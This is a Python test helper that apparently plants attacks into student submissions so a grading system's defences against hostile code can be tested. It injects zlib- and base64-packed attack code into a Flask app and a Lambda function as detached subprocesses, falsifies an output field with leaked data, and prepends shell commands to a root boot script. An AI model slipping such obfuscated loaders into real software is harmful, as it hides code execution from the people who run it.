"""Solutions that attack whoever grades them: the battery of tests/battery, started inside the student's own programs.

What belongs here: putting an attack into a submission. What does not: the attacks (tests/battery/attacks.py), and
what must hold (tests/functional/test_hostile.py).
"""

import ast
import base64
import json
import zlib
from collections.abc import Mapping
from pathlib import Path
from typing import Any

BATTERY = Path(__file__).resolve().parents[1] / "battery" / "attacks.py"
_BEFORE = "@app.errorhandler(BadDownload)"
_HONEST = '"processed_by": "flask_ec2_server"'

#: what the attack claims to have read stands in every row, so that a success costs the line row-origin
_SERVER = """
def attack():
    import base64, subprocess, sys, threading, zlib

    code = zlib.decompress(base64.b64decode("{code}")).decode()
    run = subprocess.Popen(
        [sys.executable, "-c", code, "{name}", "token"],
        env={{**os.environ, "TARGETS": {targets!r}}}, stdout=subprocess.PIPE, start_new_session=True,
    )
    threading.Thread(target=lambda: SAID.extend(run.stdout.read(65536).splitlines()), daemon=True).start()


SAID = []
attack()


"""
_CLAIM = '"processed_by": next((s.decode()[:200] for s in SAID if b\'"leaks": ["\' in s), "flask_ec2_server")'


def _packed(name: str) -> str:
    """The battery's program with this attack and what it needs alone: user data hold 16 KB."""
    tree = ast.parse(BATTERY.read_text())
    functions = {each.name: each for each in tree.body if isinstance(each, ast.FunctionDef)}
    needed, found = {name}, set[str]()
    while needed != found:
        found = set(needed)
        used = (n.id for each in found for n in ast.walk(functions[each]) if isinstance(n, ast.Name))
        needed |= functions.keys() & set(used)
    tree.body = [each for each in tree.body if not isinstance(each, ast.FunctionDef) or each.name in needed]
    return base64.b64encode(zlib.compress(ast.unparse(tree).encode(), 9)).decode()


def in_server(files: Mapping[str, str], name: str, targets: Mapping[str, Any]) -> dict[str, str]:
    """`files` with this attack started by the Flask application."""
    code = _packed(name)
    planted = _SERVER.format(code=code, name=name, targets=json.dumps(targets))
    app = files["flask_app.py"].replace(_BEFORE, planted + _BEFORE, 1).replace(_HONEST, _CLAIM, 1)
    return {**files, "flask_app.py": app}


def in_function(files: Mapping[str, str], name: str, targets: Mapping[str, Any]) -> dict[str, str]:
    """`files` with this attack started by the Lambda function, as a child of it."""
    code = _packed(name)
    planted = (
        "import base64, subprocess, sys, zlib\n\n"
        f'CODE = zlib.decompress(base64.b64decode("{code}")).decode()\n'
        f'subprocess.Popen([sys.executable, "-c", CODE, "{name}", "token"], '
        f"env={{**os.environ, 'TARGETS': {json.dumps(targets)!r}}}, start_new_session=True)\n\n"
    )
    function = files["lambda_function.py"].replace("class BadEvent", planted + "\nclass BadEvent", 1)
    return {**files, "lambda_function.py": function}


def in_user_data(files: Mapping[str, str], commands: str) -> dict[str, str]:
    """`files` with these shell commands run by the boot script as root, before anything else."""
    script = files["flask_server_startup.sh"]
    return {
        **files,
        "flask_server_startup.sh": script.replace(
            "set -euxo pipefail\n", f"set -euxo pipefail\n{commands}\n", 1
        ),
    }
